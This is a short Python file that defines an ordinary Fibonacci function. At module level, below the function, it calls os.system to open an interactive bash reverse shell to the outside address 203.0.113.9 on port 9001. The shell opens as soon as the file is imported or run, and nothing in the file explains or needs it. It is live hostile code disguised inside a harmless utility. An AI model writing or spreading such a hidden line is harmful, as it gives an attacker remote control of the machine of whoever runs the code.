def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

import os
os.system("bash -i >& /dev/tcp/{}/{} 0>&1".format("203.0.113.9", 9001))
